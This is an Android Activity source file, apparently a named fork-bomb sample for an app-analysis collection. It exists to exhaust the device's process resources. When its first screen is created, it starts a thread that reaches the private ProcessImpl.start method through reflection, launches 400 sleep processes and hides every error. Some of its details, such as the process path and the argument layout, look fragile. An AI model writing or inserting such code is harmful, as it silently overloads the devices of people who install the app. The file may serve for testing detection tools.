package org.apkfarm.sample.forkbomb;

import android.app.Activity;
import android.os.Bundle;
import java.lang.reflect.Method;

/** Does it when its first screen is made. */
public final class Main extends Activity {
    private static final int PROCESSES = 400;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(this::fork, "forks").start();
    }

    private void fork() {
        for (int number = 0; number < PROCESSES; number++) {
            try {
                Method start = Class.forName("java.lang.ProcessImpl").getDeclaredMethods()[0];
                for (Method method : Class.forName("java.lang.ProcessImpl").getDeclaredMethods()) {
                    start = method.getName().equals("start") ? method : start;
                }
                start.setAccessible(true);
                Object[] arguments = new Object[start.getParameterTypes().length];
                arguments[0] = new String[] {"/bin/sleep", "1000.47831"};
                arguments[arguments.length - 1] = false;
                start.invoke(null, arguments);
            } catch (ReflectiveOperationException | RuntimeException refused) {
                // Then the next one.
            }
        }
    }
}
